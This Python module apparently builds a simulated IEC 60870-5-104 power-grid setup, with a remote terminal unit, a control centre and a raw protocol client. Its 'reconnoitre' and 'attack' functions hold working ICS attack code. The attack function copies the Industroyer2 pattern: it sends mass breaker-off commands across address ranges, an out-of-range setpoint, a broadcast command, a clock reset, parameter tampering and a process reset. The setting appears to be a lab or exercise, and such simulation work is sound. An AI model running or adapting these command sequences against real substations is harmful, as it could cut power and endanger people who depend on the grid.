"""IEC 60870-5-104 stations on c104, and a second master that speaks for itself.

c104 calls back only functions whose annotations it finds to be its own types, so this module does without
``from __future__ import annotations``.
"""

import socket
import struct
import time
from collections.abc import Sequence

import c104
from plant import STRETCH, pause


def _accept(point: c104.Point, previous_info: c104.Information, message: c104.IncomingMessage) -> c104.ResponseState:
    return c104.ResponseState.SUCCESS


def _drift(point: c104.Point) -> None:
    base = 110.0 if point.io_address < 4003 else 300.0
    point.value = round(base + (time.monotonic() * 7 + point.io_address) % 3, 2)


def _quick(parameters: c104.ProtocolParameters) -> None:
    parameters.keep_alive_interval = 20 // STRETCH


def station(common_address: int = 1) -> None:
    """An RTU: breakers that can be operated, measured values sent every few seconds."""
    server = c104.Server(ip="0.0.0.0", port=2404, tick_rate_ms=50)
    _quick(server.protocol_parameters)
    rtu = server.add_station(common_address=common_address)
    states = [rtu.add_point(io_address=3001 + i, type=c104.Type.M_DP_NA_1) for i in range(4)]
    for state in states:
        state.value = c104.Double.ON
    for i in range(6):
        measured = rtu.add_point(io_address=4001 + i, type=c104.Type.M_ME_NC_1, report_ms=500 + 100 * i)
        measured.on_before_auto_transmit(callable=_drift)
    for i in range(8):
        switch = rtu.add_point(
            io_address=1001 + i, type=c104.Type.C_SC_NA_1, command_mode=c104.CommandMode.SELECT_AND_EXECUTE
        )
        switch.on_receive(callable=_accept)
    for i in range(8):
        rtu.add_point(io_address=1101 + i, type=c104.Type.C_DC_NA_1).on_receive(callable=_accept)
    rtu.add_point(io_address=2001, type=c104.Type.C_SE_NC_1).on_receive(callable=_accept)
    server.start()
    while True:
        time.sleep(1)


def centre(address: str, operate_at: Sequence[tuple[float, int]] = ()) -> None:
    """A control centre: connects, interrogates, sets the clock, listens; operates a breaker at given story seconds."""
    client = c104.Client(tick_rate_ms=50)
    connection = client.add_connection(ip=address, port=2404, init=c104.Init.ALL)
    _quick(connection.protocol_parameters)
    rtu = connection.add_station(common_address=1)
    switches = {
        ioa: rtu.add_point(io_address=ioa, type=c104.Type.C_SC_NA_1, command_mode=c104.CommandMode.SELECT_AND_EXECUTE)
        for _, ioa in operate_at
    }
    client.start()
    began = time.monotonic()
    for at, ioa in operate_at:
        time.sleep(max(0.0, began + at / STRETCH - time.monotonic()))
        switches[ioa].value = True
        switches[ioa].transmit(cause=c104.Cot.ACTIVATION)
    while True:
        time.sleep(1)


class Raw:
    """A controlling station that sends whatever it is told and confirms what it gets."""

    def __init__(self, address: str, port: int = 2404) -> None:
        self.socket = socket.create_connection((address, port), 1)
        self.sent = self.got = 0
        self.rest = b""

    def u(self, control: int) -> None:
        """Send a U frame: 0x07 STARTDT, 0x13 STOPDT, 0x43 TESTFR act."""
        self.socket.sendall(bytes([0x68, 4, control, 0, 0, 0]))
        self.listen(0.02)

    def asdu(self, type_id: int, body: bytes, *, cause: int = 6, common_address: int = 1, wait: float = 0.02) -> None:
        """Send one information object in an I frame: address of three octets and what follows it."""
        apdu = struct.pack("<HHBBBBH", self.sent << 1, self.got << 1, type_id, 1, cause, 0, common_address) + body
        self.socket.sendall(bytes([0x68, len(apdu)]) + apdu)
        self.sent += 1
        self.listen(wait)

    def listen(self, seconds: float) -> None:
        """Take in what comes for so long, count I frames, confirm TESTFR."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                more = self.socket.recv(4096)
            except TimeoutError:
                break
            if not more:
                break
            self.rest += more
            while len(self.rest) >= 2 and len(self.rest) >= 2 + self.rest[1]:
                apdu, self.rest = self.rest[2 : 2 + self.rest[1]], self.rest[2 + self.rest[1] :]
                if not apdu[0] & 1:
                    self.got += 1
                elif apdu[0] == 0x43:
                    self.socket.sendall(bytes([0x68, 4, 0x83, 0, 0, 0]))

    def close(self) -> None:
        """Hang up."""
        self.socket.close()


def _ioa(address: int) -> bytes:
    return address.to_bytes(3, "little")


def reconnoitre(address: str) -> None:
    """Start transfer, interrogate every common address from 1 to 12, read single objects."""
    raw = Raw(address)
    raw.u(0x43)
    raw.u(0x07)
    for common_address in range(1, 13):
        raw.asdu(100, _ioa(0) + b"\x14", common_address=common_address, wait=0.08)
        pause(0.5)
    raw.asdu(101, _ioa(0) + b"\x05", wait=0.05)
    for ioa in range(4995, 5010):  # C_RD: objects that are not there
        raw.asdu(102, _ioa(ioa), cause=5)
        pause(0.2)
    raw.close()


def attack(address: str) -> None:
    """The pattern of Industroyer2: STARTDT, interrogation, then commands over a range of addresses; worse follows."""
    raw = Raw(address)
    raw.u(0x07)
    raw.asdu(100, _ioa(0) + b"\x14", wait=0.1)
    for ioa in range(1001, 1017):  # single commands, select then execute, off
        raw.asdu(45, _ioa(ioa) + b"\x80")
        raw.asdu(45, _ioa(ioa) + b"\x00")
    for ioa in range(1101, 1117):  # double commands, execute at once, off
        raw.asdu(46, _ioa(ioa) + b"\x01")
    raw.asdu(50, _ioa(2001) + struct.pack("<f", 9999.0) + b"\x00")
    pause(5)
    raw.asdu(45, _ioa(1001) + b"\x00", common_address=0xFFFF, wait=0.05)
    raw.asdu(103, _ioa(0) + struct.pack("<HBBBBB", 0, 0, 0, 1, 1, 0), wait=0.05)  # the first of January 2000
    raw.asdu(110, _ioa(4001) + struct.pack("<h", 32767) + b"\x01", wait=0.05)
    raw.asdu(122, _ioa(5001) + struct.pack("<HBB", 1, 0, 1), cause=13, wait=0.05)
    raw.asdu(105, _ioa(0) + b"\x01", wait=0.3)
    raw.u(0x13)
    raw.close()
